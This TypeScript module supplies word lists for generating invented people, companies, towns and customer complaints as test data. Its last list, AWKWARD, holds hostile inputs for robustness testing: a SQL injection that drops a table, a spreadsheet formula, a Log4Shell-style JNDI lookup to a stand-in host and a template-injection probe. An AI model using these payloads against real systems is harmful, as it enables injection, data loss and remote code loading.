/** The words invented people, companies and complaints are made of. */

export const FIRST_NAMES: readonly string[] = (
  'Anna Boris Carla Daniel Elif Farid Greta Henrik Ingrid Jonas Katarzyna Leon Mirela Nadia Oskar Paula Quentin Rosa ' +
  'Stefan Tilda Ulrich Vera Wojtek Xenia Yusuf Zoé André Björn Chloë Dörte Émile François Gökçe Héctor İpek Jürgen ' +
  'Kārlis Łucja Márta Niño Ólafur Přemysl Renée Søren Þóra Umut Ámbar Oğuz Žaneta Siobhán Alexander Elizabeth Katherine ' +
  'Michael Robert William Margaret Thomas Patricia Christopher Rebecca Jonathan Nicholas Samantha Benjamin Victoria'
).split(' ');

export const LAST_NAMES: readonly string[] = (
  'Abel Baumann Castillo Dvořák Eriksson Fontaine Grünwald Horváth Ibrahim Jansen Kowalski Lindqvist Moreau Nakamura ' +
  'Okafor Pellegrini Quist Rasmussen Schröder Thorsen Ueda Vasquez Wieczorek Xylander Yıldız Zimmermann Ahlgren ' +
  'Brandstätter Carvalho Demir Egger Ferreira Gallagher Hoffmann Ivanova Jørgensen Kellermann Lefèvre Marchetti Novák ' +
  "O'Brien O'Connor Petrović Rossi Szabó Tanaka Underhill Varga Whitfield Younger Zhang Mac-Intyre Smith-Jones " +
  'Ashworth Bexley Crowther Dunmore Elsworth Farnham Grantham Holloway Ingleby Kingsley Langford Merriweather'
).split(' ');

/** Short forms under which the same person writes another time. */
export const NICKNAMES: Readonly<Record<string, string>> = {
  Alexander: 'Alex',
  Elizabeth: 'Liz',
  Katherine: 'Kate',
  Michael: 'Mike',
  Robert: 'Bob',
  William: 'Bill',
  Margaret: 'Peggy',
  Thomas: 'Tom',
  Patricia: 'Pat',
  Christopher: 'Chris',
  Rebecca: 'Becky',
  Jonathan: 'Jon',
  Nicholas: 'Nick',
  Samantha: 'Sam',
  Benjamin: 'Ben',
  Victoria: 'Vicky',
};

const COMPANY_HEADS =
  'Alder Beacon Cobalt Drift Ember Fathom Granite Harbour Iron Juniper Kestrel Lumen Marlow North Orchard'.split(' ');
const COMPANY_TAILS =
  'Freight Labs Logistics Foods Optics Robotics Shipping Systems Textiles Tools Trading Works'.split(' ');
const COMPANY_FORMS = ['Ltd', 'GmbH', 'S.A.', 'AB', 'Inc.', '& Sons', 'B.V.', 'Sp. z o.o.'];

/** Every invented company, a few hundred. */
export const COMPANIES: readonly string[] = COMPANY_HEADS.flatMap((head, h) =>
  COMPANY_TAILS.map((tail, t) => `${head} ${tail} ${COMPANY_FORMS[(h + t) % COMPANY_FORMS.length] ?? ''}`),
);

export const JOB_TITLES: readonly string[] = [
  'Accountant',
  'Buyer',
  'Chief of Staff',
  'Dispatcher',
  'Engineer',
  'Facility Manager',
  'Head of Sales (EMEA)',
  'IT Support',
  'Office Manager',
  'Warehouse Lead',
];

export const STREETS: readonly string[] =
  'Almond Birch Canal Dock Elm Ferry Garden Harbour Island Juniper King Lime Mill North Oak Park Quay River Station Tower'.split(
    ' ',
  );
export const STREET_KINDS: readonly string[] = ['Street', 'Road', 'Lane', 'Avenue', 'Close', 'Platz', 'rue'];

export interface Town {
  readonly city: string;
  readonly state: string;
  readonly country: string;
  readonly dialling: string;
}

const town = (city: string, state: string, country: string, dialling: string): Town => ({
  city,
  state,
  country,
  dialling,
});

export const TOWNS: readonly Town[] = [
  town('Bergen', 'Vestland', 'NO', '47'),
  town('Brno', 'Jihomoravský kraj', 'CZ', '420'),
  town('Gdańsk', 'Pomorskie', 'PL', '48'),
  town('Graz', 'Steiermark', 'AT', '43'),
  town('Leeds', 'West Yorkshire', 'GB', '44'),
  town('Lübeck', 'Schleswig-Holstein', 'DE', '49'),
  town('Malmö', 'Skåne', 'SE', '46'),
  town('Nantes', 'Pays de la Loire', 'FR', '33'),
  town('Porto', 'Norte', 'PT', '351'),
  town('Tallahassee', 'FL', 'US', '1'),
  town('Utrecht', 'Utrecht', 'NL', '31'),
  town('São José', 'SC', 'BR', '55'),
];

export const SUBJECTS: readonly string[] = [
  'Invoice does not match the order',
  'Parcel arrived damaged',
  'Cannot log in since this morning',
  'Question about the warranty',
  'Please change my address',
  'Delivery is late again',
  'Request for a quote: 40 pallets',
  'Refund for order',
  'App crashes when I upload a photo',
  'Cancellation of my subscription',
];

export const SENTENCES: readonly string[] = [
  'Good morning, I ordered this two weeks ago and have heard nothing since.',
  'The driver left it with a neighbour who is on holiday.',
  'I have attached a photo of the label & the box.',
  'Could somebody call me back this afternoon, please?',
  'It worked yesterday; nothing was changed on our side.',
  'Our accounting closes on Friday, so it is somewhat urgent.',
  'Thank you for the quick answer, that solved it.',
  'This is the third time I write about it.',
];

/** Texts that break what was not made with care: scripts, directions, joiners, escapes, quotes, statements. */
export const AWKWARD: readonly string[] = [
  'Ω≈ç√∫˜µ≤≥÷ — “quoted” ‘text’…',
  '社會科學院語學研究所 / 사회과학원',
  'בְּרֵאשִׁית, הָיְתָהtestالصفحات',
  '👩‍👩‍👧‍👦 ‍🏳️‍🌈 🇳🇴 ̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆',
  'zero\u200bwidth\u00a0and\u2028line\u2029separators',
  `Robert'); drop table customers;--`,
  '\\N and \\. and \\t are text here',
  'tab\there, "comma", and\r\na line break',
  '=HYPERLINK("http://example.com";"click")',
  '${jndi:ldap://example.com/a} {{7*7}} %00 %s',
];
